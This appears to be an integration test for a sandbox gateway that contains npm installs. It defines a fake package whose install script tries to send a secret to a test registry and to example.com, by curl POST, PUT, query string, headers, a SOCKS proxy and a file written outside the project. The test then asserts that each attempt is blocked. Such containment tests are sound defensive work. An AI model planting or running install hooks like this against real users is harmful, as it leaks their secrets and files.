// Installs under the real client with the registry gateway: what the project names comes unasked, and what came can send nothing.
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { Server } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { rootCertificates } from "node:tls";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CONTAINED_CACHES } from "#base/contained-caches.ts";
import { createGatewayAuthority } from "#surface/services/gateway/gateway-authority.ts";
import { gatewayPlaces } from "#surface/services/gateway/gateway-places.ts";
import { type Gateway, startGateway } from "#surface/services/gateway/gateway-server.ts";
import { writeGatewayState } from "#surface/services/gateway/gateway-state.ts";
import { isInstallOpen } from "#surface/services/gateway/open-installs.ts";
import { skipIfMissing } from "../skipping.ts";
import {
  connected,
  NPM,
  startRegistry,
  testAuthority,
} from "../surface/services/gateway/gateway-stand.ts";
import type { BreakableStand } from "./breakable-stand.ts";
import { bash, type ClientRun, type ClientRunOptions } from "./client-run.ts";
import { clientPath, whyMissing } from "./machine.ts";
import { openManagedStand } from "./managed-stand.ts";
import { toolUseId } from "./model-stub.ts";

const SECRET = "OBSIDIAN8812";
const PATIENT = { timeout: 240_000 };

/** What the package tries when it is installed; each line of the report is one attempt and how it ended. */
const INSTALL_SCRIPT = `
const { execFileSync } = require("node:child_process");
const { writeFileSync } = require("node:fs");
const secret = "${SECRET}";
const report = [];
const attempt = (name, program, ...words) => {
  try {
    const text = execFileSync(program, words, { encoding: "utf8", timeout: 20000, stdio: "pipe" });
    report.push(name + ": " + text.slice(0, 300));
  } catch (fault) {
    report.push(name + ": held " + String(fault.stderr).trim().slice(0, 200));
  }
};
const curl = (name, ...words) =>
  attempt(name, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "10", ...words);
const registry = "https://${NPM}";
curl("read", registry + "/spying");
curl("post", "-X", "POST", "-d", secret, registry + "/spying");
curl("put", "-X", "PUT", "-d", secret, registry + "/spying");
curl("body", "-X", "GET", "-d", secret, registry + "/spying");
curl("query", registry + "/spying?a=" + secret);
curl("header", "-H", "X-Leak: " + secret, "-A", secret, "-e", "https://" + secret, registry + "/spying");
curl("login", "-u", "a:" + secret, registry + "/spying");
curl("host", "https://example.com/" + secret);
curl("plain", "http://example.com/" + secret);
curl("socks", "--socks5-hostname", "localhost:1080", "https://example.com/" + secret);
curl("direct", "--noproxy", "*", "https://example.com/" + secret);
try {
  writeFileSync(process.env.HOME + "/written-outside", secret);
  report.push("outside: written");
} catch (fault) {
  report.push("outside: held " + fault.code);
}
writeFileSync(process.env.INIT_CWD + "/report.txt", report.join("\\n"));
`;

/** Code of the project that asks a registry while no install runs. */
const LATER = `import urllib.request
try: print("read", urllib.request.urlopen("https://${NPM}/spying").status)
except Exception as fault: print("held", fault.reason)
`;

type Seen = { readonly method: string; readonly url: string; readonly all: string };
type RegistryStand = { readonly seen: Seen[]; readonly gateway: Gateway; close(): Promise<void> };

/** A package as the registry has it: its description, and its files as npm packs them. */
function packed(name: string, files: Readonly<Record<string, string>>) {
  const folder = mkdtempSync(join(tmpdir(), "sallyport-packed-"));
  mkdirSync(join(folder, "package"));
  for (const [path, text] of Object.entries(files))
    writeFileSync(join(folder, "package", path), text);
  const bytes = execFileSync("tar", ["-C", folder, "-cz", "package"]);
  rmSync(folder, { recursive: true });
  const integrity = `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
  const tarball = `https://${NPM}/${name}/-/${name}-1.0.0.tgz`;
  const version = { ...JSON.parse(files["package.json"] ?? "{}"), dist: { tarball, integrity } };
  const about = { name, "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } };
  return { bytes, about: JSON.stringify(about) };
}

const packageOf = (name: string, more: object = {}) =>
  JSON.stringify({ name, version: "1.0.0", ...more });
const PACKAGES = {
  spying: () =>
    packed("spying", {
      "package.json": packageOf("spying", {
        hasInstallScript: true,
        scripts: { install: "node install.js" },
      }),
      "install.js": INSTALL_SCRIPT,
      "index.js": "module.exports = 6 * 7;\n",
    }),
  "left-pad": () => packed("left-pad", { "package.json": packageOf("left-pad"), "index.js": "" }),
};

function answerFrom(packages: ReadonlyMap<string, ReturnType<typeof packed>>, seen: Seen[]) {
  return (request: IncomingMessage, response: ServerResponse): void => {
    const { method = "", url = "", headers } = request;
    let body = "";
    request.on("data", (part: Buffer) => (body += part.toString()));
    request.on("end", () => {
      seen.push({ method, url, all: JSON.stringify([headers, url, body]) });
      const [, name = "", file] = url.split("/");
      const found = packages.get(name);
      if (found === undefined) return response.writeHead(404).end("{}");
      response.end(file === undefined ? found.about : found.bytes);
    });
  };
}

/** A registry of our own behind the gateway that the data directory of a stand belongs to. */
async function openRegistry({ data }: BreakableStand): Promise<RegistryStand> {
  const packages = new Map(Object.entries(PACKAGES).map(([name, make]) => [name, make()]));
  const seen: Seen[] = [];
  const publicAuthority = testAuthority();
  const registry: { readonly server: Server; readonly port: number } = await startRegistry(
    publicAuthority,
    answerFrom(packages, seen),
  );
  const authority = createGatewayAuthority(Date.now());
  const gateway = await startGateway({
    port: 0,
    authority,
    authorities: [publicAuthority.certificate],
    isOpen: () => isInstallOpen(data),
    connect: () => connected(registry.port),
  });
  mkdirSync(gatewayPlaces(data).root, { recursive: true, mode: 0o700 });
  writeFileSync(
    gatewayPlaces(data).trustFile,
    [...rootCertificates, authority.certificate].join("\n"),
  );
  writeGatewayState(data, gateway.port);
  return {
    seen,
    gateway,
    async close() {
      await gateway.close();
      registry.server.closeAllConnections();
      await new Promise((done) => registry.server.close(done));
    },
  };
}

let missing: string | undefined;
let stand: BreakableStand;
let upstream: RegistryStand;
beforeAll(async () => {
  missing = await whyMissing(["client", "sandbox", "managed"]);
  for (const name of ["npm", "node", "curl"])
    if (!clientPath.split(":").some((folder) => existsSync(join(folder, name))))
      missing ??= `${name} is not installed where the client looks for it`;
  if (missing !== undefined) return;
  stand = await openManagedStand(undefined, "command", async (opened) => {
    upstream = await openRegistry(opened);
    return { gateway: { port: upstream.gateway.port } };
  });
}, 240_000);
afterAll(async () => {
  await upstream?.close();
  await stand?.close();
});

/** A session in which the shell is known, and then the calls of a case, in a project that names one package. */
async function session(calls: ClientRunOptions["turns"], more: Partial<ClientRunOptions> = {}) {
  const clean = ["node_modules", "package-lock.json", "report.txt", ".cache"];
  for (const name of clean) rmSync(join(stand.project, name), { recursive: true, force: true });
  upstream.seen.length = 0;
  return stand.session({
    files: {
      "package.json": packageOf("shop", { dependencies: { spying: "1.0.0" } }),
      "later.py": LATER,
    },
    turns: [bash("true"), ...calls, "bye"],
    timeoutMs: 200_000,
    ...more,
    settings: { project: {}, user: {} },
    env: { IS_SANDBOX: undefined, SHLVL: "1", ...more.env },
  });
}
const resultOf = (run: ClientRun, turn = 1) => run.toolResults.get(toolUseId(turn))?.text ?? "";

describe("an install of what the project names", () => {
  it(
    "runs without a question, brings the package, and its script reaches nothing but readings",
    PATIENT,
    async (ctx) => {
      skipIfMissing(ctx, missing);
      const run = await session([
        bash("npm install --no-audit --no-fund"),
        bash("python3 later.py"),
        bash('node -e \'console.log("is", require("spying"))\''),
      ]);
      expect(resultOf(run)).toContain("added 1 package");
      const report = readFileSync(join(stand.project, "report.txt"), "utf8");
      const outcome = new Map(
        report.split("\n").map((line) => line.split(": ", 2) as [string, string]),
      );
      expect(outcome.get("read")).toBe("200 200");
      // What it says of itself stays behind.
      for (const name of ["header", "login"]) expect(outcome.get(name)).toBe("200 200");
      for (const name of ["post", "put", "body", "query"])
        expect([name, outcome.get(name)]).toEqual([
          name,
          expect.stringMatching(/^40[0-9] 200|held/),
        ]);
      for (const name of ["host", "socks", "direct", "outside"])
        expect([name, outcome.get(name)]).toEqual([name, expect.stringMatching(/^held/)]);
      expect(outcome.get("plain")).toMatch(/^403|held/);
      expect(existsSync(join(stand.home, "written-outside"))).toBe(false);
      expect(upstream.seen.map(({ all }) => all).join("\n")).not.toContain(SECRET);
      expect(new Set(upstream.seen.map(({ method }) => method))).toEqual(new Set(["GET"]));
      // The door is shut again, and what came runs contained.
      expect(resultOf(run, 2)).toContain("held Tunnel connection failed: 403");
      expect(resultOf(run, 3)).toContain("is 42");
      expect(existsSync(join(stand.project, CONTAINED_CACHES, "npm"))).toBe(true);
    },
  );
});

describe("what is new is asked about", () => {
  it(
    "a package that the call names, and one that the session wrote into the manifest",
    PATIENT,
    async (ctx) => {
      skipIfMissing(ctx, missing);
      const manifest = packageOf("shop", { dependencies: { "left-pad": "1.0.0" } });
      const run = await session([
        bash("npm install left-pad"),
        [{ name: "Read", input: { file_path: join(stand.project, "package.json") } }],
        [
          {
            name: "Write",
            input: { file_path: join(stand.project, "package.json"), content: manifest },
          },
        ],
        bash("npm install"),
      ]);
      for (const turn of [1, 4]) expect(resultOf(run, turn)).toContain("builtin:team/install/any");
      expect(upstream.seen).toEqual([]);
      expect(existsSync(join(stand.project, "node_modules"))).toBe(false);
    },
  );
  it("and where the answer was no, the next call brings nothing either", PATIENT, async (ctx) => {
    skipIfMissing(ctx, missing);
    const run = await session([bash("npm install left-pad"), bash("python3 -c 'import later'")]);
    expect(resultOf(run, 1)).toContain("builtin:team/install/any");
    expect(resultOf(run, 2)).toContain("held Tunnel connection failed: 403");
    expect(upstream.seen).toEqual([]);
  });
});
